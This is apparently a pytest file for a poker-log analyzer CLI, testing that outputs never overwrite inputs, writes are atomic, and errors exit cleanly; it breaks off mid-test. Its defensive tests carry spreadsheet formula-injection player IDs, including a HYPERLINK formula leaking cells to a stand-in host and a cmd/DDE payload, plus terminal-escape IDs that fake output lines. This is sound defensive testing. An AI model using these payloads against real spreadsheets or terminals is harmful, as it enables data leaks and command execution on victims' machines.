"""Outputs and the user's files under misuse: nothing overwritten, devices kept, sets whole, clear exits
(issue 15, items 8-13 and the minor ones about outputs and options)."""

from __future__ import annotations

import fcntl
import gzip
import os
import stat
from pathlib import Path
from typing import Any

import orjson
import pandas as pd
import pytest
from conftest import clean_exit as _clean_exit
from conftest import SAMPLES, legal_obj
from conftest import run_cli as _run

from analyzer.logs import OutputSet, atomic_write_bytes, write_records

FAST = ["--samples", "1", "--dd-samples", "0"]
AUDIT_FAST = ["--samples", "1", "--dd-samples", "1"]



def _log(folder: Path, name: str = "room.jsonl", n: int = 3, first: int = 0) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / name
    p.write_bytes(b"".join(orjson.dumps(legal_obj(first + s, f"h{first + s}")) + b"\n" for s in range(n)))
    return p


def test_decisions_refuses_a_log_found_inside_a_folder_argument(tmp_path: Path) -> None:
    log = _log(tmp_path / "logs")
    before = log.read_bytes()
    r = _run("decisions", str(tmp_path / "logs"), "-o", str(log), *FAST)
    _clean_exit(r, 2)
    assert "input" in r.output and log.read_bytes() == before


@pytest.mark.parametrize("command", ["validate", "report", "decisions", "audit"])
def test_no_writer_overwrites_an_input_through_a_link(tmp_path: Path, command: str) -> None:
    log = _log(tmp_path / "logs")
    before = log.read_bytes()
    link = tmp_path / "out.html"
    link.symlink_to(log)
    args = {"validate": ["validate", str(tmp_path / "logs"), "--html", str(link)],
            "report": ["report", str(tmp_path / "logs"), "--hand", "h0", "--out", str(link), "--samples", "1"],
            "decisions": ["decisions", str(tmp_path / "logs"), "-o", str(link), *FAST],
            "audit": ["audit", str(tmp_path / "logs"), "--out", str(tmp_path / "logs"), *AUDIT_FAST]}[command]
    if command == "audit":  # an input named like an output inside --out
        (tmp_path / "logs" / "audit.json").symlink_to(log)
    r = _run(*args)
    _clean_exit(r, 2)
    assert "input" in r.output and log.read_bytes() == before


@pytest.mark.parametrize("command", ["validate", "report", "decisions", "simulate"])
def test_dev_null_stays_a_device(tmp_path: Path, command: str) -> None:
    log = _log(tmp_path)
    args = {"validate": ["validate", str(log), "--html", os.devnull],
            "report": ["report", str(log), "--hand", "h0", "--out", os.devnull, "--samples", "1"],
            "decisions": ["decisions", str(log), "-o", os.devnull, *FAST],
            "simulate": ["simulate", "--hands", "3", "--players", "4", "--colluders", "0", "--friends", "0",
                         "--out", os.devnull, "--truth", os.devnull]}[command]
    r = _run(*args)
    assert r.exit_code == 0 and r.exception is None or isinstance(r.exception, SystemExit), r.output
    assert r.exit_code == 0, r.output
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
@pytest.mark.parametrize("command", ["validate", "decisions", "simulate"])
def test_a_full_disk_is_exit_2_with_one_line(tmp_path: Path, command: str) -> None:
    log = _log(tmp_path)
    args = {"validate": ["validate", str(log), "--html", "/dev/full"],
            "decisions": ["decisions", str(log), "-o", "/dev/full", *FAST],
            "simulate": ["simulate", "--hands", "50", "--players", "4", "--colluders", "0", "--friends", "0",
                         "--out", "/dev/full"]}[command]
    r = _run(*args)
    _clean_exit(r, 2)
    assert "analyzer: error: /dev/full: No space left on device" in r.output


def test_an_output_under_a_file_is_exit_2_and_leaves_no_temp_file(tmp_path: Path) -> None:
    log = _log(tmp_path)
    blocker = tmp_path / "file"
    blocker.write_text("x")
    r = _run("validate", str(log), "--html", str(blocker / "sub" / "v.html"))
    _clean_exit(r, 2)
    assert r.output.count("analyzer: error:") == 1
    r = _run("decisions", str(log), "-o", str(tmp_path), *FAST)  # a folder where a file is expected
    assert r.exit_code == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "room.jsonl"]


def test_a_failed_audit_leaves_the_old_set_and_no_temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = _log(tmp_path / "logs", n=4)
    out = tmp_path / "out"
    out.mkdir()
    old = {n: f"old {n}".encode() for n in ("audit.json", "pairs.csv", "players.csv", "report.html")}
    for n, b in old.items():
        (out / n).write_bytes(b)
    import analyzer.report.audit as page

    def boom(*a: object, **k: object) -> None:
        raise OSError(28, "No space left on device", str(out / "report.html"))

    monkeypatch.setattr(page, "write_audit_report", boom)
    r = _run("audit", str(log), "--out", str(out), *AUDIT_FAST)
    _clean_exit(r, 2)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == old  # nothing new, nothing left behind


def test_an_output_set_is_locked_while_written_and_moves_in_whole(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with OutputSet(out, ["a", "b"]) as tmp:
        (tmp / "a").write_bytes(b"1")
        (tmp / "b").write_bytes(b"2")
        fd = os.open(out, os.O_RDONLY)
        try:
            with pytest.raises(BlockingIOError):  # a second run waits for this one
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        finally:
            os.close(fd)
        assert not (out / "a").exists()  # nothing moves in before the whole set is written
    assert (out / "a").read_bytes() == b"1" and (out / "b").read_bytes() == b"2"
    assert sorted(p.name for p in out.iterdir()) == ["a", "b"]


def test_interrupting_an_output_set_keeps_the_old_files(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "a").write_bytes(b"old")
    with pytest.raises(KeyboardInterrupt), OutputSet(out, ["a", "b"]) as tmp:
        (tmp / "a").write_bytes(b"new")
        raise KeyboardInterrupt
    assert sorted(p.name for p in out.iterdir()) == ["a"] and (out / "a").read_bytes() == b"old"


def _truncated_gz(folder: Path) -> Path:
    data = gzip.compress(b"".join(orjson.dumps(legal_obj(s, f"g{s}")) + b"\n" for s in range(3)))
    p = folder / "cut.jsonl.gz"
    p.write_bytes(data[: len(data) // 2])
    return p


@pytest.mark.parametrize("command", ["decisions", "players", "report", "audit"])
def test_a_read_error_is_exit_2_and_writes_nothing(tmp_path: Path, command: str) -> None:
    gz = _truncated_gz(tmp_path)
    out = tmp_path / "out"
    args = {"decisions": ["decisions", str(gz), "-o", str(out), *FAST],
            "players": ["players", str(gz), *FAST],
            "report": ["report", str(gz), "--hand", "g0", "--out", str(out), "--samples", "1"],
            "audit": ["audit", str(gz), "--out", str(out), *AUDIT_FAST]}[command]
    r = _run(*args)
    _clean_exit(r, 2)
    assert "io-error" in r.output and not out.exists()


def test_report_player_on_a_borrow_room_is_a_usage_error(tmp_path: Path) -> None:
    from analyzer.simulate.borrow import simulate

    log = tmp_path / "borrow.jsonl"
    write_records(log, simulate(hands=3, players=4, seed=1).records)
    pid = orjson.loads(log.read_bytes().splitlines()[0])["players"][0]
    r = _run("report", str(log), "--player", pid, "--out", str(tmp_path / "p.html"), "--samples", "1")
    _clean_exit(r, 2)
    hand = orjson.loads(log.read_bytes().splitlines()[0])["hand_id"]
    r = _run("report", str(log), "--hand", hand, "--out", str(tmp_path / "h.html"), "--samples", "1")
    assert r.exit_code in (0, 2) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output


def test_players_on_a_parquet_of_other_columns_is_a_usage_error(tmp_path: Path) -> None:
    other = tmp_path / "other.parquet"
    pd.DataFrame({"x": [1, 2]}).to_parquet(other)
    r = _run("players", str(other))
    _clean_exit(r, 2)
    assert "lacks the column" in r.output
    junk = tmp_path / "junk.parquet"
    junk.write_bytes(b"not parquet at all")
    _clean_exit(_run("players", str(junk)), 2)


def test_players_mixing_a_parquet_and_a_log_uses_both(tmp_path: Path) -> None:
    a = _log(tmp_path / "a", n=2)
    b = _log(tmp_path / "b", n=2, first=10)
    rows = tmp_path / "a.parquet"
    _clean_exit(_run("decisions", str(a), "-o", str(rows), *FAST), 0)
    both = _run("players", str(rows), str(b), "--format", "json", *FAST)
    one = _run("players", str(rows), "--format", "json")
    assert both.exit_code == 0 and one.exit_code == 0, both.output
    def decisions(r: Any) -> int:
        return sum(p["decisions"] for p in orjson.loads(r.stdout))

    assert decisions(both) > decisions(one)


@pytest.mark.parametrize("args", [
    ["validate", "LOG", "--max-line-bytes", "99999999999999999999"],
    ["audit", "LOG", "--out", "OUT", "--alpha", "nan"],
    ["audit", "LOG", "--out", "OUT", "--fdr", "inf"],
    ["decisions", "LOG", "-o", "OUT", "--noise", "nan"],
    ["simulate", "--out", "OUT", "--strength", "nan"],
    ["simulate", "--out", "OUT", "--share", "nan"],
    ["simulate", "--out", "OUT", "--option", "seek=nan"],
    ["simulate", "--out", "OUT", "--players", "3"],
])
def test_options_out_of_range_or_nan_are_usage_errors(tmp_path: Path, args: list[str]) -> None:
    log = _log(tmp_path)
    out = tmp_path / "o"
    r = _run(*[str(log) if a == "LOG" else str(out) if a == "OUT" else a for a in args])
    _clean_exit(r, 2)
    assert not out.exists()


def test_simulate_refuses_truth_onto_its_log(tmp_path: Path) -> None:
    out = tmp_path / "room.jsonl"
    r = _run("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(out))
    _clean_exit(r, 2)
    _clean_exit(_run("simulate", "--hands", "3", "--players", "4", "--out", str(out)), 0)
    before = out.read_bytes()
    link = tmp_path / "truth.json"
    link.symlink_to(out)
    _clean_exit(_run("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(link)), 2)
    assert out.read_bytes() == before


def test_report_hand_of_a_variant_without_a_page_is_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from analyzer.report import hand

    def refuse(*a: object, **k: object) -> None:
        raise ValueError("no replay page for this variant")

    monkeypatch.setattr(hand, "write_hand_report", refuse)
    log = _log(tmp_path)
    _clean_exit(_run("report", str(log), "--hand", "h0", "--out", str(tmp_path / "h.html"), "--samples", "1"), 2)


def test_outputs_follow_the_umask(tmp_path: Path) -> None:
    log = _log(tmp_path)
    old = os.umask(0o027)
    try:
        _clean_exit(_run("decisions", str(log), "-o", str(tmp_path / "d.parquet"), *FAST), 0)
        atomic_write_bytes(tmp_path / "x.bin", b"x")
    finally:
        os.umask(old)
    store = tmp_path / "d.parquet"  # a decision store: a folder of Parquet parts
    files = [p for p in store.iterdir() if p.is_file()]
    assert store.is_dir() and files
    assert stat.S_IMODE(os.stat(store).st_mode) == 0o750
    for path in [*files, tmp_path / "x.bin"]:
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o640, path


def test_pair_ids_with_commas_and_spaces(tmp_path: Path) -> None:
    objs = [legal_obj(s, f"h{s}") for s in range(2)]
    for o in objs:
        o["players"] = ["a,b", "c d", " e", "f"]
    log = tmp_path / "odd.jsonl"
    log.write_bytes(b"".join(orjson.dumps(o) + b"\n" for o in objs))
    out = tmp_path / "pair.html"
    r = _run("report", str(log), "--pair", "a,b,c d", "--out", str(out), "--samples", "1")
    _clean_exit(r, 0)
    assert out.exists()
    r = _run("report", str(log), "--pair", "c d, e", "--out", str(out), "--samples", "1")
    _clean_exit(r, 0)


@pytest.mark.parametrize("entry", [
    {"hands_together": 10**9}, {"hands_together": "many"}, {"score": "high"}, {"evidence": [{"action": -1}]},
    {"players": ["p1"]},
])
def test_report_pair_checks_the_audit_file(tmp_path: Path, entry: dict) -> None:
    log = _log(tmp_path, n=2)
    pair = {"players": ["p1", "p2"], "hands_together": 2, "score": 1.0, **entry}
    audit = tmp_path / "audit.json"
    audit.write_bytes(orjson.dumps({"pairs": [pair]}))
    r = _run("report", str(log), "--pair", "p1,p2", "--audit", str(audit), "--out", str(tmp_path / "p.html"),
             "--samples", "1")
    _clean_exit(r, 2)
    assert "--audit" in r.output


def test_the_same_file_given_twice_is_read_once(tmp_path: Path) -> None:
    log = _log(tmp_path / "logs")
    r = _run("validate", str(log), str(tmp_path / "logs"), str(log))
    _clean_exit(r, 0)
    assert "3 hands, 3 valid, 0 problems" in r.output


#: Player ids a spreadsheet would run as formulas (OWASP: = + - @ tab carriage return), and one that starts with
#: the apostrophe itself (so that taking one apostrophe off always gives the id back).
FORMULA_IDS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+cmd|/C calc!A0", "-2+3", "@SUM(1)"]
MORE_FORMULA_IDS = ["\t=1+1", "\r=2+2", "'=3+3", "plain"]


def _room_of(folder: Path, players: list[str], n: int = 6) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / "room.jsonl"
    objs = [legal_obj(s, f"h{s}") for s in range(n)]
    for o in objs:
        o["players"] = players
    p.write_bytes(b"".join(orjson.dumps(o) + b"\n" for o in objs))
    return p


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _check_defused(rows: list[dict[str, str]], id_columns: tuple[str, ...], ids: list[str]) -> None:
    """Every id cell is the id with one apostrophe in front when it starts like a formula or with one, and every
    other cell is as a number is written: no apostrophe, a negative number still a number."""
    for row in rows:
        for c in id_columns:
            raw = row[c][1:] if row[c].startswith("'") else row[c]
            assert raw in ids and row[c] == ("'" + raw if raw[:1] in "=+-@\t\r'" else raw), row[c]
    others = [v for row in rows for k, v in row.items() if k not in id_columns]
    assert not any(v.startswith("'") for v in others)
    negative = [v for v in others if v.startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
    log = _room_of(tmp_path / "in", FORMULA_IDS)
    out = tmp_path / "au"
    r = _run("audit", str(log), "-o", str(out), *AUDIT_FAST)
    assert r.exit_code in (0, 1) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
    players = _csv_rows(out / "players.csv")
    assert sorted(row["player"] for row in players) == sorted("'" + i for i in FORMULA_IDS)
    _check_defused(players, ("player",), FORMULA_IDS)
    pairs = _csv_rows(out / "pairs.csv")
    assert len(pairs) == 6
    _check_defused(pairs, ("a", "b"), FORMULA_IDS)
    audit = orjson.loads((out / "audit.json").read_bytes())  # JSON keeps the ids exactly
    assert sorted(p["player"] for p in audit["players"]) == sorted(FORMULA_IDS)
    assert {i for p in audit["pairs"] for i in p["players"]} == set(FORMULA_IDS)


def test_players_csv_defuses_formulas_and_json_keeps_the_ids(tmp_path: Path) -> None:
    log = _room_of(tmp_path / "in", MORE_FORMULA_IDS)
    r = _run("players", str(log), "--format", "csv", "-o", str(tmp_path / "p.csv"), *FAST)
    _clean_exit(r, 0)
    rows = _csv_rows(tmp_path / "p.csv")
    assert sorted(row["player"] for row in rows) == sorted(["'\t=1+1", "'\r=2+2", "''=3+3", "plain"])
    _check_defused(rows, ("player",), MORE_FORMULA_IDS)
    r = _run("players", str(log), "--format", "json", *FAST)
    _clean_exit(r, 0)
    assert sorted(p["player"] for p in orjson.loads(r.stdout)) == sorted(MORE_FORMULA_IDS)


def test_csv_text_leaves_numbers_and_the_frame_alone() -> None:
    from analyzer.logs import csv_text

    frame = pd.DataFrame({"player": ["=1", "bob", None, "-x"], "score": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4],
                          "flag": [True, False, True, False], "mixed": [-7, "@x", None, "ok"]})
    before = frame.copy()
    lines = csv_text(frame, float_format="%.6g").splitlines()
    assert lines == ["player,score,n,flag,mixed", "'=1,-1.5,-1,True,-7", "bob,2,2,False,'@x", ",-3,3,True,",
                     "'-x,0,4,False,ok"]
    pd.testing.assert_frame_equal(frame, before)
    plain = pd.DataFrame({"player": ["a", "b"], "v": [-1, 1]})
    assert csv_text(plain) == plain.to_csv(index=False)  # nothing to defuse: the bytes pandas writes
    # a carriage return inside a cell: quoted (lines end in CR LF), so the row stays one row
    assert csv_text(pd.DataFrame({"player": ["a\rb", "\r=1"], "v": [-1, 1]})) == \
        'player,v\r\n"a\rb",-1\r\n"\'\r=1",1\r\n'


def test_audit_into_its_input_folder_keeps_the_logs(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    _log(logs, n=4)
    before = {p.name: p.read_bytes() for p in logs.iterdir()}
    r = _run("audit", str(logs), "--out", str(logs), *AUDIT_FAST)
    assert r.exit_code in (0, 1) and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
    after = {p.name: p.read_bytes() for p in logs.iterdir()}
    assert {n: after[n] for n in before} == before
    assert set(after) == set(before) | {"audit.json", "pairs.csv", "players.csv", "report.html"}
    _clean_exit(_run("audit", str(logs / "room.jsonl"), "--out", str(logs / "room.jsonl"), *AUDIT_FAST), 2)


def test_duplicate_hands_across_files_are_reported(tmp_path: Path) -> None:
    _log(tmp_path / "a", n=2)
    _log(tmp_path / "b", n=2)  # the same ids in another file
    r = _run("validate", str(tmp_path / "a"), str(tmp_path / "b"))
    _clean_exit(r, 1)
    assert r.output.count("[duplicate-hand-id]") == 2


def test_a_folder_of_thousands_of_small_files_and_an_empty_one(tmp_path: Path) -> None:
    logs = tmp_path / "many"
    logs.mkdir()
    for i in range(1500):  # each its own hand (one hand under 1,000 ids would be 999 duplicate-deal copies)
        (logs / f"f{i:04d}.jsonl").write_bytes(orjson.dumps(legal_obj(i, f"h{i}")) + b"\n" if i % 3 else b"")
    r = _run("validate", str(logs), "--jobs", "2")
    _clean_exit(r, 0)
    assert "1000 hands, 1000 valid, 0 problems" in r.output


def test_an_extremely_long_id_is_one_line_of_output(tmp_path: Path) -> None:
    o = legal_obj(2, "h" * 200_000 + "\x1b")
    o["actions"] = o["actions"][:5]
    p = tmp_path / "long.jsonl"
    p.write_bytes(orjson.dumps(o) + b"\n")
    r = _run("validate", str(p))
    _clean_exit(r, 1)
    assert len(r.output.splitlines()) == 2 and "\x1b" not in r.output
    _clean_exit(_run("validate", str(p), "--max-line-bytes", "1000"), 1)


def test_simulate_leaves_no_log_when_its_truth_cannot_be_written(tmp_path: Path) -> None:
    """The log and its truth are one output: a truth that cannot be written (a full disk, a file where its folder
    should be) leaves no log behind either."""
    out = tmp_path / "room.jsonl"
    if os.path.exists("/dev/full"):
        r = _run("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", "/dev/full")
        _clean_exit(r, 2)
        assert "No space left" in r.output and not out.exists()
    (tmp_path / "blocker").write_text("")
    r = _run("simulate", "--hands", "3", "--players", "4", "--out", str(out), "--truth", str(tmp_path / "blocker" / "t.json"))
    _clean_exit(r, 2)
    assert "a file is in the way" in r.output and not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker"]  # no temporary file either


def _cli(*args: str, stdin: Any = None, timeout: float = 120) -> Any:
    """The CLI in its own process (standard input a real file descriptor; a hang fails after ``timeout``)."""
    import subprocess
    import sys

    return subprocess.run([sys.executable, "-m", "analyzer.cli", *args], stdin=stdin, capture_output=True,
                          timeout=timeout, text=True)


@pytest.mark.parametrize("command", [["validate"], ["players", "--format", "csv", *FAST]])
def test_standard_input_redirected_from_the_output_is_refused(tmp_path: Path, command: list[str]) -> None:
    """``analyzer validate - -o log.jsonl < log.jsonl``: standard input is that file, so it is an input."""
    log = _log(tmp_path)
    before = log.read_bytes()
    with open(log, "rb") as f:
        r = _cli(command[0], "-", "-o", str(log), *command[1:], stdin=f)
    assert r.returncode == 2 and "refusing to overwrite an input file (it is standard input)" in r.stderr, r.stderr
    assert log.read_bytes() == before
    with open(log, "rb") as f:  # another output from the same redirected input is fine
        assert _cli(command[0], "-", "-o", str(tmp_path / "out.txt"), *command[1:], stdin=f).returncode == 0


@pytest.mark.parametrize("order", [["-", "LOG"], ["LOG", "-"]])
def test_standard_input_redirected_from_a_named_file_is_read_once(tmp_path: Path, order: list[str]) -> None:
    """``analyzer validate - log.jsonl < log.jsonl`` (either order) reads the file once, as ``/dev/stdin`` does: its
    hands are not duplicates of themselves. Another file on standard input is still read."""
    log = _log(tmp_path)
    args = [str(log) if a == "LOG" else a for a in order]
    with open(log, "rb") as f:
        r = _cli("validate", *args, stdin=f)
    assert r.returncode == 0 and "3 hands, 3 valid, 0 problems" in r.stdout, r.stdout + r.stderr
    other = _log(tmp_path / "b", first=10)
    with open(other, "rb") as f:
        r = _cli("validate", *args, stdin=f)
    assert r.returncode == 0 and "6 hands, 6 valid, 0 problems" in r.stdout, r.stdout + r.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_a_named_pipe_as_a_log_is_read_whole(tmp_path: Path) -> None:
    """A FIFO (or ``<(cat log)``) is read once, from its first byte: looking for a decision store must not take
    the first bytes of the stream, nor open it a second time (which waits forever once the writer is gone)."""
    import threading

    log = _log(tmp_path, n=5)
    fifo = tmp_path / "pipe.jsonl"
    os.mkfifo(fifo)

    def feed() -> None:
        with open(fifo, "wb") as w:
            w.write(log.read_bytes())

    writer = threading.Thread(target=feed, daemon=True)
    writer.start()
    r = _cli("validate", str(fifo), timeout=60)
    writer.join(timeout=10)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "5 hands, 5 valid, 0 problems" in r.stdout


@pytest.mark.parametrize("command", [["audit"], ["validate"], ["players", *FAST], ["decisions", *FAST],
                                     ["report", "--hand", "h0"]])
def test_an_empty_output_path_is_a_usage_error(tmp_path: Path, command: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """``-o ''`` would mean the current folder (audit: "wrote /audit.json") or no page at all (validate)."""
    log = _log(tmp_path / "in")
    monkeypatch.chdir(tmp_path)
    before = sorted(p.name for p in tmp_path.iterdir())
    r = _run(command[0], str(log), "-o", "", *command[1:])
    _clean_exit(r, 2)
    assert "an empty path" in r.output
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_an_output_that_cannot_be_made_is_named_as_given(tmp_path: Path) -> None:
    """Not as the hidden temporary file or folder beside it."""
    log = _log(tmp_path)
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        if os.access(ro, os.W_OK):  # root ignores the mode: a folder under a file cannot be made by anyone
            (tmp_path / "f").write_text("")
            ro = tmp_path / "f" / "sub"
        for command, out in ((["players", *FAST], ro / "p.csv"), (["decisions", *FAST], ro / "store")):
            r = _run(command[0], str(log), "-o", str(out), *command[1:])
            _clean_exit(r, 2)
            assert str(out) in r.output and ".tmp" not in r.output and f"/.{out.name}." not in r.output, r.output
    finally:
        (tmp_path / "ro").chmod(0o700)


def test_a_store_part_that_cannot_be_written_is_named_and_leaves_nothing(tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Arrow's write errors name no file (``Error writing bytes to file ... No space left on device``): the message
    names the store, and no store or hidden folder is left."""
    import pyarrow.parquet as pq

    def full(*a: Any, **k: Any) -> None:
        raise OSError("Error writing bytes to file. Detail: [errno 28] No space left on device")

    monkeypatch.setattr(pq, "write_table", full)
    log = _log(tmp_path / "in")
    out = tmp_path / "store"
    r = _run("decisions", str(log), "-o", str(out), *FAST)
    _clean_exit(r, 2)
    assert f"{out}: " in r.output and "No space left" in r.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]


def test_a_link_loop_is_named_as_one(tmp_path: Path) -> None:
    a, b = tmp_path / "a.jsonl", tmp_path / "b.jsonl"
    a.symlink_to(b)
    b.symlink_to(a)
    r = _run("validate", str(a))
    _clean_exit(r, 2)  # validate: an io-error, and no hand read at all
    assert "a link that leads to no file" in r.output
    r = _run("audit", str(a), "--out", str(tmp_path / "out"))
    _clean_exit(r, 2)
    assert "a link that leads to no file" in r.output and not (tmp_path / "out").exists()


def test_report_audit_file_is_not_a_log_nor_the_page(tmp_path: Path) -> None:
    log = _log(tmp_path)
    r = _run("report", str(log), "--pair", "a,b", "--audit", str(log), "-o", str(tmp_path / "p.html"))
    _clean_exit(r, 2)
    assert "is one of the logs" in r.output and "overwrite" not in r.output
    audit = tmp_path / "audit.json"
    audit.write_text("{}")
    r = _run("report", str(log), "--pair", "a,b", "--audit", str(audit), "-o", str(audit))
    _clean_exit(r, 2)
    assert "refusing to overwrite the --audit file" in r.output and audit.read_text() == "{}"


def test_report_hand_says_when_its_id_is_used_again(tmp_path: Path) -> None:
    log = tmp_path / "dup.jsonl"
    log.write_bytes(b"".join(orjson.dumps(legal_obj(s, "same")) + b"\n" for s in range(3)))
    out = tmp_path / "h.html"
    r = _run("report", str(log), "--hand", "same", "-o", str(out))
    _clean_exit(r, 0)
    assert f"is used 3 times; the page shows the first, {log}:1 (also at {log}:2, {log}:3)" in r.output
    assert out.exists()


HUGE = str(2**70)


@pytest.mark.parametrize("args", [["audit", "-o", "{o}", "--min-hands", HUGE], ["audit", "-o", "{o}", "--seed", HUGE],
                                  ["audit", "-o", "{o}", "--seed", str(-(2**63) - 1)],
                                  ["audit", "-o", "{o}", "--samples", HUGE], ["audit", "-o", "{o}", "--dd-samples", HUGE],
                                  ["decisions", "-o", "{o}", "--max-samples", HUGE], ["decisions", "-o", "{o}", "--seed", HUGE],
                                  ["players", "--jobs", str(2**31)], ["audit", "-o", "{o}", "--evidence", HUGE]])
def test_integers_beyond_what_the_kernels_hold_are_usage_errors(tmp_path: Path, args: list[str]) -> None:
    """Not a TypeError from orjson, an OverflowError from numpy or a typing error from numba, with an empty folder
    left behind."""
    log = _log(tmp_path / "in")
    out = tmp_path / "o"
    r = _run(args[0], str(log), *[a.format(o=out) for a in args[1:]])
    _clean_exit(r, 2)
    assert "is not in the range" in r.output and not out.exists()


def test_jobs_never_start_more_processes_than_cores(tmp_path: Path) -> None:
    from analyzer.commands.common import execution_for
    from analyzer.validate import usable_cores

    assert execution_for([], 10_000, None).jobs == usable_cores()
    assert execution_for([], 10_000, "local").jobs == usable_cores()
    assert execution_for([], 64, "tcp://10.0.0.1:8786").jobs == 64  # a remote cluster's workers are not this machine's


@pytest.mark.parametrize("args", [["--variant", "bieqi-borrow", "--option", "hands_per_table=0"],
                                  ["--variant", "bieqi-borrow", "--option", "hands_per_table=2.5"],
                                  ["--variant", "bieqi-borrow", "--option", "hands_per_table=-5"],
                                  ["--variant", "bieqi-borrow", "--option", "hands_per_table=true"],
                                  ["--variant", "bieqi-borrow", "--option", "rules=1"],
                                  ["--variant", "bieqi-borrow", "--option", "cheat_rate=2"],
                                  ["--option", "presence=abc"], ["--option", "presence=1e-300"],
                                  ["--seed", "-5"]])
def test_simulator_options_are_checked(tmp_path: Path, args: list[str]) -> None:
    """A usage error naming the option: not a ZeroDivisionError, an AttributeError, a room that never ends (a presence
    that seats nobody) or a log that does not validate (negative hands a table)."""
    out = tmp_path / "room.jsonl"
    r = _run("simulate", "--hands", "3", "-o", str(out), *args)
    _clean_exit(r, 2)
    name = args[-1].split("=")[0] if "--option" in args else "--seed"
    assert name in r.output and not out.exists()


def test_closed_standard_streams_are_not_a_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    log = _log(tmp_path)
    run = [sys.executable, "-c", "import sys; from analyzer.cli import main; sys.argv[0] = 'analyzer'; main()"]
    closed_out = subprocess.run([*run, "validate", str(log)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                text=True, timeout=120, pass_fds=(), preexec_fn=lambda: os.close(1))
    assert closed_out.returncode == 0 and "Traceback" not in closed_out.stderr, closed_out.stderr
    closed_in = subprocess.run([*run, "validate", "-"], stdin=subprocess.DEVNULL, capture_output=True, text=True,
                               timeout=120, preexec_fn=lambda: os.close(0))
    assert "Traceback" not in closed_in.stderr and "0 hands" in closed_in.stdout, closed_in.stderr
    if os.path.exists("/dev/full"):
        with open("/dev/full", "w") as full:
            helped = subprocess.run([*run, "--help"], stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
        assert helped.returncode == 2 and "No space left" in helped.stderr and "Traceback" not in helped.stderr


def test_broken_links_inside_a_folder_are_named(tmp_path: Path) -> None:
    """Not skipped without a word (the command would run on part of the input)."""
    folder = tmp_path / "logs"
    _log(folder)
    (folder / "gone.jsonl").symlink_to(tmp_path / "nowhere.jsonl")
    r = _run("validate", str(folder))  # validate: an io-error naming it among the problems, the other logs read
    _clean_exit(r, 1)
    assert "gone.jsonl: [io-error] cannot read" in r.output and "a link that leads to no file" in r.output
    assert "1 problems" in r.output and " 0 hands" not in r.output
    r = _run("players", str(folder), "-o", str(tmp_path / "p.csv"))  # the others: no output from part of the input
    _clean_exit(r, 2)
    assert "gone.jsonl: a link that leads to no file" in r.output and not (tmp_path / "p.csv").exists()


def test_validate_reads_every_path_it_can_and_names_the_missing_one(tmp_path: Path) -> None:
    """A missing path among good ones is an io-error problem (exit 1, the page written), the good ones validated;
    only missing paths: exit 2."""
    folder = tmp_path / "logs"
    _log(folder)
    page = tmp_path / "v.html"
    r = _run("validate", str(tmp_path / "nope.jsonl"), str(folder), "-o", str(page))
    _clean_exit(r, 1)
    assert "nope.jsonl: [io-error] cannot read" in r.output and "valid" in r.output and page.exists()
    r = _run("validate", str(tmp_path / "nope.jsonl"))
    _clean_exit(r, 2)
    assert "nope.jsonl: [io-error]" in r.output and "0 hands" in r.output


def test_player_ids_cannot_drive_the_terminal_from_the_players_table(tmp_path: Path) -> None:
    log = tmp_path / "room.jsonl"
    evil = ["evil\x1b[2J\x1b[31mRED", "\u202eEVIL\nFAKE LINE: all clear", "bob", "carol"]
    lines = []
    for s in range(3):
        rec = legal_obj(s, f"h{s}")
        rec["players"] = evil
        lines.append(orjson.dumps(rec) + b"\n")
    log.write_bytes(b"".join(lines))
    r = _run("players", str(log), *FAST)
    _clean_exit(r, 0)
    assert "\x1b" not in r.output and "\u202e" not in r.output and "FAKE LINE" in r.output
    assert not any(line.startswith("FAKE LINE") for line in r.output.splitlines())
    assert "evil\\x1b[2J" in r.output


def test_a_corrupt_store_part_is_named(tmp_path: Path) -> None:
    """A part whose pages are damaged (its footer intact): exit 2 naming the part, not Arrow's nameless "Corrupt
    snappy compressed data."."""
    log = _log(tmp_path / "in", n=4)
    store = tmp_path / "store"
    _clean_exit(_run("decisions", str(log), "-o", str(store), *FAST), 0)
    part = sorted(store.glob("part-*.parquet"))[0]
    data = bytearray(part.read_bytes())
    for k in range(8, len(data) // 2):  # the first half: column pages, not the footer
        data[k] ^= 0x5A
    part.write_bytes(bytes(data))
    for command in (["players", str(log), "--decisions", str(store), *FAST],
